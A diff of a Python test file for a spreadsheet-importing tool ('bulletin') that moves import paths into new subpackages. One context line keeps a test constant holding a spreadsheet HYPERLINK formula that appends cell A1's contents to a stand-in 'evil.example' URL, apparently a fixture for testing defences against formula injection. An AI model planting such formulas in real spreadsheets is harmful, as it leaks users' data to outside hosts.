@@ -16,14 +16,14 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from bulletin import files
-from bulletin.cli import main
-from bulletin.importers import driver, xlsxio
-from bulletin.importers.dataunodc import HEADER as DATAUNODC_HEADER
-from bulletin.importers.provenance import write_records
-from bulletin.importers.wdr_crimes import CONTACT_HEADER, OFFENCES, OFFENCES_HEADER
-from bulletin.importers.wdr_seizures import HEADER_2018
-from bulletin.tables import load_table, write_table
+from bulletin.cli.main import main
+from bulletin.core import files
+from bulletin.data.importers import driver, xlsxio
+from bulletin.data.importers.dataunodc import HEADER as DATAUNODC_HEADER
+from bulletin.data.importers.provenance import write_records
+from bulletin.data.importers.wdr_crimes import CONTACT_HEADER, OFFENCES, OFFENCES_HEADER
+from bulletin.data.importers.wdr_seizures import HEADER_2018
+from bulletin.data.tables import load_table, write_table
 
 WDR_CRIMES = "wdr2024-annex-10.1-drug-related-crimes.xlsx"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -652,7 +652,7 @@ def test_an_existing_header_only_table_is_an_empty_table(
 
 
 def test_debug_shows_the_traceback_of_a_refusal(tmp_path: Path) -> None:
-    from bulletin.importers import ImportRefusedError
+    from bulletin.data.importers import ImportRefusedError
 
     path = tmp_path / "annex.csv"
     path.write_text(f"{ANNEX_HEADER}\n{ANNEX_ROW.replace(';167;', ';x;')}\n", encoding="utf-8")
@@ -679,7 +679,7 @@ def test_a_header_naming_a_column_twice_is_refused_in_plain_words(
 def test_whatever_a_reader_raises_on_odd_content_is_a_refusal_naming_the_file(
     tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    from bulletin.importers import detect
+    from bulletin.data.importers import detect
 
     def reader(path, options, report):
         raise KeyError("Specify year")  # a column the reader counted on, missing from the file
@@ -712,7 +712,7 @@ def _official_files() -> list[str]:
     """The Makefile's OFFICIAL_FILES: the publications `make import-official` reads."""
     import re
 
-    from bulletin.paths import PROJECT_ROOT
+    from bulletin.core.paths import PROJECT_ROOT
 
     text = (PROJECT_ROOT / "Makefile").read_text().replace("\\\n", " ")
     return re.search(r"^OFFICIAL_FILES := (.*)$", text, re.M).group(1).split()
@@ -735,7 +735,7 @@ def test_reimporting_the_shipped_publications_changes_nothing(
 ) -> None:
     import shutil
 
-    from bulletin.paths import DATA_DIR
+    from bulletin.core.paths import DATA_DIR
 
     data = tmp_path / "data"
     shutil.copytree(DATA_DIR, data)
